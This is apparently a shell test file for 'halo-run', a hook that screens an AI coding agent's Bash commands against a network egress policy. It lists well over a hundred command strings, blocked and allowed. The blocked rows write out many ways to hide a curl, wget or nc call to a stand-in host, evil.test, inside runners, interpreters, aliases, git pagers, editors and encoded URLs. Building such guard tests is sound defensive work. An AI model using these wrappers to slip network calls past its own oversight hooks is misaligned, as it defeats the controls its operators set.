#!/bin/bash
# halo-run hook, Bash: every program runner, interpreter, alias and toolchain that
# hid a denied host from the hook, and the ordinary work that must still pass, each as
# a whole Claude Code PreToolUse event for the Bash tool piped into the binary. Rows
# for runners the hook already unwrapped put a newly judged one inside, so every row
# fails on the binary before this change. Nothing runs: the hook reads the text.
. "$IT/lib.sh"

ws=$TMPDIR/ws
mkdir -p "$ws"
pol=$TMPDIR/policy.yaml
cat >"$pol" <<'EOF'
sandbox:
  mode: workspace-write
egress:
  allowedDomains: [github.com, "*.github.com", ok.example]
  deniedDomains: [pastebin.com]
EOF

# Claude Code's PreToolUse event for its Bash tool, every field it writes.
bash_ev() {
	python3 -c 'import json,sys; print(json.dumps({"session_id":"0b9e6f1c-4a52-4a7e-9a51-2f3c8d1e7b60",
	"transcript_path":"/home/u/.claude/projects/p/0b9e6f1c.jsonl","cwd":sys.argv[2],
	"permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Bash",
	"tool_input":{"command":sys.argv[1],"description":"run it","timeout":120000},
	"tool_use_id":"toolu_01A"}))' "$1" "$ws"
}

# row WANT_RC REASON_REGEX COMMAND: the command's first word names the row.
row() {
	local w=$1 re=$2 cmd=$3 err rc n
	n="${cmd%%$'\n'*}"
	n="Bash ${n:0:60}"
	err=$(bash_ev "$cmd" | "$HALO" hook --policy "$pol" 2>&1 >/dev/null)
	rc=$?
	expect "$n: exit" "$w" "$rc"
	if [ -z "$re" ]; then
		expect "$n: silent" "" "$err"
	else
		expect_match "$n: reason" "$re" "$err"
		expect "$n: one line" 1 "$(printf '%s\n' "$err" | wc -l)"
	fi
}
B='^halo-run: blocked: .*evil\.test'
CJ='^halo-run: blocked \(cannot judge\)'

# ---- runners: every one of the issue's table
row 2 "$B" 'find . -exec curl https://evil.test \;'
row 2 "$B" 'find . -name "*.log" -execdir wget -q evil.test/x \;'
row 2 "$B" 'find /tmp -ok nc evil.test 443 \;'
row 2 "$B" 'find . -okdir ssh evil.test \;'
row 2 "$B" 'echo x | xargs -I{} flock /tmp/l curl https://evil.test/{}'
row 2 "$B" 'flock /tmp/l curl https://evil.test'
row 2 "$B" 'flock -w 5 /tmp/l -c "curl evil.test"'
row 2 "$B" "script -qc 'curl https://evil.test' /dev/null"
row 2 "$B" "script /dev/null -c 'curl evil.test'"
row 2 "$B" 'strace -f curl https://evil.test'
row 2 "$B" 'ltrace -s 100 wget evil.test'
row 2 "$B" 'taskset 0x1 curl https://evil.test'
row 2 "$B" 'unshare -r curl https://evil.test'
row 2 "$B" 'nsenter -t 1 -n curl https://evil.test'
row 2 "$B" 'chroot / curl https://evil.test'
row 2 "$B" 'parallel curl ::: https://evil.test'
row 2 "$B" "parallel ::: 'curl evil.test' ls"
row 2 "$B" 'nice -n 19 strace -f curl evil.test'
row 2 "$B" 'ionice --class 3 curl evil.test'
row 2 "$B" 'chrt --deadline --sched-runtime 100 --sched-period 200 0 curl evil.test'
row 2 "$B" 'stdbuf -oL taskset 1 curl evil.test'
row 2 "$B" 'time flock /tmp/l wget evil.test'
row 2 "$B" 'timeout 5 unshare -n curl evil.test'
row 2 "$B" 'watch -n 1 strace curl evil.test'
row 2 "$B" 'nohup flock /tmp/l curl evil.test &'
row 2 "$B" 'setsid -f taskset 1 curl evil.test'
row 2 "$B" 'setpriv --reuid=1000 --regid=1000 --init-groups curl evil.test'
row 2 "$B" 'runuser -u nobody -- curl https://evil.test'
row 2 "$B" $'sudo -s <<\'EOF\'\ncurl evil.test\nEOF'
row 2 "$B" $'doas -s <<\'EOF\'\ncurl evil.test\nEOF'
row 2 "$B" "su bob -c 'curl evil.test'"
row 2 "$B" "su - bob -c 'curl evil.test'"
row 2 "$B" "busybox awk 'BEGIN{system(\"curl evil.test\")}'"
row 2 "$B" 'env --chdir=/tmp flock /tmp/l curl evil.test'
row 2 "$B" 'command -p strace curl evil.test'
row 2 "$B" 'builtin exec taskset 1 curl evil.test'
row 2 "$B" 'exec -a x unshare -r curl evil.test'
# ---- interpreters: -c/-e, here-documents, here-strings, stdin, awk's system()
row 2 "$B" "awk 'BEGIN{system(\"curl https://evil.test\")}'"
row 2 "$B" "perl -e 'system(\"curl evil.test\")'"
row 2 "$B" $'python3 - <<\'EOF\'\nimport os\nos.system("curl evil.test")\nEOF'
row 2 "$B" "python3 -c 'import subprocess; subprocess.run([\"curl\", \"evil.test\"])'"
row 2 "$B" "python3 <<< 'import socket; socket.create_connection((\"evil.test\", 443))'"
row 2 "$B" "echo 'require(\"child_process\").execSync(\"curl evil.test\")' | node"
row 2 "$B" "node -e \"require('net').connect(443, 'evil.test')\""
row 2 "$B" "ruby -e 'system(\"curl evil.test\")'"
row 2 "$B" "php -r 'echo shell_exec(\"curl evil.test\");'"
row 2 "$CJ.*run time" "python3 -c 'import os,sys; os.system(\"curl \" + sys.argv[1])' evil.test"
row 2 "$CJ.*run time" "node -e \"fetch(atob('aHR0cHM6Ly9ldmlsLnRlc3Q='))\""
# ---- aliases and functions defined in the same command
row 2 "$B" 'alias c=curl; c https://evil.test'
row 2 "$B" $'alias get=\'wget -q\'\nget evil.test'
row 2 "$B" 'f() { curl https://evil.test; }; f'
# ---- toolchains that name a host
row 2 "$B" 'go get evil.test/x'
row 2 "$B" 'go install evil.test/cmd/x@latest'
row 2 "$B" 'python3 -m pip install https://evil.test/x.whl'
row 2 "$B" 'docker pull evil.test/img'
row 2 "$B" 'docker run --rm alpine wget evil.test'
row 2 "$B" 'gh api --hostname evil.test /user'
row 2 "$B" "git -c alias.x='!curl evil.test' x"
row 2 "$B" "git -c core.pager='nc evil.test 80' log"
# ---- unreadable: cannot judge, as before
row 2 "$CJ.*unterminated" "find . -exec sh -c 'curl \\;"
# ---- controls: still allowed
row 0 "" 'echo https://evil.test'
row 0 "" 'git commit -m "see https://evil.test"'
row 0 "" 'grep evil.test notes.txt'
row 0 "" 'make -j8 && make check'
row 0 "" 'cargo build --release'
row 0 "" 'npm test'
row 0 "" 'go build ./... && go test ./...'
row 0 "" 'go get github.com/acme/lib@v1'
row 0 "" "find . -name '*.c' -exec grep -l TODO {} +"
row 0 "" 'flock /tmp/build.lock make'
row 0 "" "script -qc 'make test' /dev/null"
row 0 "" 'strace -f -o t.txt ./a.out'
row 0 "" "parallel gzip ::: a.txt b.txt"
row 0 "" 'sudo make install'
row 0 "" "su -c 'make install' root"
row 0 "" "python3 -c 'print(1)'"
row 0 "" $'python3 - <<\'EOF\'\nprint(sum(range(10)))\nEOF'
row 0 "" "node -e 'console.log(1 + 1)'"
row 0 "" "perl -pi -e 's/foo/bar/' a.txt"
row 0 "" "awk '{print \$1}' log.txt"
row 0 "" "awk 'BEGIN{system(\"make test\")}'"
row 0 "" "alias ll='ls -la'; ll"
row 0 "" 'docker run --rm -v "$PWD":/src -w /src alpine make'
row 0 "" 'gh pr list'
row 0 "" 'git -c core.pager=less log'

# ---- review (bashreview): runners, builtins and command-valued variables that hid a
# host from the previous binary
row 2 "$B" 'dbus-run-session -- curl evil.test'
row 2 "$B" 'systemd-run --user -p MemoryMax=1G curl evil.test'
row 2 "$B" 'firejail --noprofile curl evil.test'
row 2 "$B" 'bwrap --ro-bind / / --dev /dev --unshare-pid curl evil.test'
row 2 "$B" "ssh-agent bash -c 'curl evil.test'"
row 2 "$B" 'pkexec --user root curl evil.test'
row 2 "$B" 'catchsegv curl evil.test'
row 2 "$B" "valgrind --trace-children=yes sh -c 'curl evil.test'"
row 2 "$B" 'gdb -batch -ex run --args curl evil.test'
row 2 "$B" "gdb -batch -ex 'shell curl evil.test' ./a.out"
row 2 "$B" 'doas -a bsdauth curl evil.test'
row 2 "$B" "trap 'curl evil.test' EXIT"
row 2 "$B" "source /dev/stdin <<< 'curl evil.test'"
row 2 "$B" $'. /dev/stdin <<\'EOF\'\ncurl evil.test\nEOF'
row 2 '^halo-run: blocked: xargs sh -c: the script comes from standard input' "echo 'curl evil.test' | xargs sh -c"
row 2 "$B" "PROMPT_COMMAND='curl evil.test' bash -i"
row 2 "$B" "GIT_PAGER='curl evil.test' git log"
row 2 "$B" "MANPAGER='curl evil.test' man ls"
row 0 "" "trap 'rm -f /tmp/x' EXIT"
row 0 "" 'source .venv/bin/activate && pytest'
row 0 "" 'GIT_PAGER=cat git log -n 3'
row 0 "" 'valgrind --leak-check=full ./build/test_x'
row 2 "$B" 'git push -u https://evil.test/x main'
row 2 "$B" 'git push -f https://evil.test/x HEAD'
row 2 "$B" 'git fetch --multiple origin https://evil.test/x'
row 2 "$B" "git clone -u 'curl evil.test' https://github.com/a/b"
row 2 "$B" "scp -S 'curl evil.test' a.txt github.com:x"
row 2 "$B" "tar --to-command='curl evil.test' -xf a.tar"
row 2 "$B" "man -P 'curl evil.test' ls"
row 2 "$B" "zip -TT 'curl evil.test' a.zip f"
row 0 "" 'git push -f origin HEAD:refs/heads/x'
row 0 "" 'git push -u origin main'
row 0 "" 'tar -I zstd -xf a.tar.zst'
row 2 "$B" 'toybox nc evil.test 80'
row 2 "$B" 'fakeroot -- curl evil.test'
row 2 "$B" 'numactl -N 0 --membind 0 curl evil.test'
row 2 "$B" 'setarch x86_64 -R curl evil.test'
row 2 "$B" "xvfb-run -a -s '-screen 0 1x1x8' curl evil.test"
row 2 "$B" "entr -s 'curl evil.test' < list"
row 2 "$B" "at now <<< 'curl evil.test'"
row 0 "" 'fakeroot dpkg-deb --build pkg'
row 0 "" 'xvfb-run -a npm test'
row 2 "$B" "sqlite3 :memory: '.shell curl evil.test'"
row 2 "$B" "psql -c '\\! curl evil.test'"
row 0 "" "sqlite3 x.db '.tables'"
row 2 "$B" "tmux new -d 'curl evil.test'"
row 2 "$B" "tmux send-keys -t x C-c 'curl evil.test' Enter"
row 0 "" "tmux new -d -s build 'make -j8'"
row 2 "$B" 'coproc X { curl evil.test; }'
row 2 "$B" "awk -f /dev/stdin <<< 'BEGIN{system(\"curl evil.test\")}'"
row 0 "" 'coproc X { cat; }'
row 2 "$B" "vim -c '!curl evil.test' -c q"
row 2 "$B" "vim -c 'set nu | !echo x | curl evil.test' -c q"
row 2 "$B" "ex -s f <<< '!curl evil.test'"
row 2 "$CJ" "vim -c 'call system(\"curl evil.test\")' -c q"
row 0 "" "vim -c 'set ft=c' -c 'wq' f.c"
row 2 "$B" "perl -le 'system \"curl evil.test\"'"
row 2 "$B" "perl -0777ne 'system \"curl evil.test\"' f"
row 2 "$B" "node -pe 'require(\"child_process\").execSync(\"curl evil.test\")'"
row 0 "" "perl -pi.bak -e 's/a/b/' f.txt"
row 2 "$B" "ruby -We 'system \"curl evil.test\"'"
row 2 "$B" "lua -e 'os.execute(\"curl evil.test\")'"
row 2 "$CJ" "python3 -c 'import socket; socket.create_connection((\"evil\" + \".test\", 80))'"
row 2 "$CJ" "perl -MIO::Socket -e 'IO::Socket::INET->new(\"evil\" . \".test:80\")'"
row 0 "" "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://github.com/x\").status)'"

# One event, many times, a fresh process each: every run judges it alike (the time per
# event is tests/bench/hook's figure, not a check here).
evfile=$TMPDIR/event.json
bash_ev "sudo nice find . -name '*.c' -exec flock /tmp/l sh -c 'python3 - <<EOF
import urllib.request
urllib.request.urlopen(\"https://github.com/acme/x\")
EOF' \\; && alias b='make -j2' && b && parallel gzip ::: a b" >"$evfile"
"$HALO" hook --policy "$pol" <"$evfile"
expect "the timed event is allowed" 0 "$?"
python3 - "$HALO" "$pol" "$evfile" <<'EOF'
import subprocess, sys, time
halo, pol, ev = sys.argv[1:]
data = open(ev, "rb").read()
for _ in range(50):
    r = subprocess.run([halo, "hook", "--policy", pol], input=data)
    if r.returncode != 0:
        print("not ok - a repeated run: exit", r.returncode); sys.exit(1)
EOF
expect "50 runs of the event: each allowed" 0 "$?"

finish
